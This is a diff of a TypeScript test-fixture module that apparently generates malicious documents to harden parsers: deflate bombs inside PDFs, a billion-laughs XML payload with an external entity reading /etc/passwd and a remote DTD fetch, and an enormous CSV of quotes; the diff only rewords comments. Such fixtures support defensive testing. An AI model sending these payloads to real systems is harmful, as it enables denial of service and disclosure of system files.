@@ -1,6 +1,6 @@
 import { deflateSync } from 'node:zlib'
 
-/** A file made to harm whoever reads it. */
+/** A file made to harm its reader. */
 export interface HostileFile {
   readonly name: string
   readonly make: () => Uint8Array
@@ -11,7 +11,10 @@ export interface HostileFile {
 const text = (name: string, make: () => string): HostileFile => ({ name, make: () => Buffer.from(make()) })
 const DEEP = 100_000
 
-/** A PDF of these objects, numbered from 1, the first its catalogue; without a table, so a reader has to search. */
+/**
+ * A PDF of these objects, numbered from 1, the first of them its catalogue; without a cross-reference table, so that
+ * a reader has to search.
+ */
 export function pdfOf(objects: readonly (string | Uint8Array)[], trailer = ''): Uint8Array {
   const body = objects.flatMap((object, at) => [
     Buffer.from(`${at + 1} 0 obj\n`),
@@ -24,7 +27,7 @@ export function pdfOf(objects: readonly (string | Uint8Array)[], trailer = ''): 
 
 const CATALOGUE = '<</Type/Catalog/Pages 2 0 R>>'
 
-/** A PDF of one page with this content and whatever else its dictionary says. */
+/** A PDF of one page with this content and these additional entries in its dictionary. */
 function pageOf(content: string | Uint8Array, page = '/MediaBox[0 0 100 100]', filter = ''): Uint8Array {
   const bytes = Buffer.from(content)
   return pdfOf([
@@ -40,7 +43,7 @@ function pageOf(content: string | Uint8Array, page = '/MediaBox[0 0 100 100]', f
   ])
 }
 
-/** What deflates to a thousandth, this many times over. */
+/** Data that deflates to a thousandth of its size, deflated this many times. */
 function layered(times: number, sizeBytes: number): Uint8Array {
   let bytes: Uint8Array = Buffer.alloc(sizeBytes, 'BT /F 9 Tf (x) Tj ET\n')
   for (let layer = 0; layer < times; layer++) bytes = deflateSync(bytes, { level: 9 })
@@ -204,7 +207,7 @@ const laughs = (depth: number): string =>
     `<!ENTITY out SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "http://192.0.2.1/x.dtd">%far;]>`,
   ].join('\n')
 
-/** XML whose entities grow a thousand million times over, and one that would read a file, round this element. */
+/** XML around this element, whose entities expand a thousand million times, with one that would read a file. */
 export const laughing = (open: string, close: string): string => `${laughs(9)}${open}&a9;&out;words${close}`
 
 const pages: readonly HostileFile[] = [
@@ -268,5 +271,5 @@ const pages: readonly HostileFile[] = [
   text('commas.csv', () => '"'.repeat(10_000_000)),
 ]
 
-/** Documents that are text in one way or the other. */
+/** Documents that are some form of text. */
 export const documents: readonly HostileFile[] = [...pdfs, ...mails, ...pages]
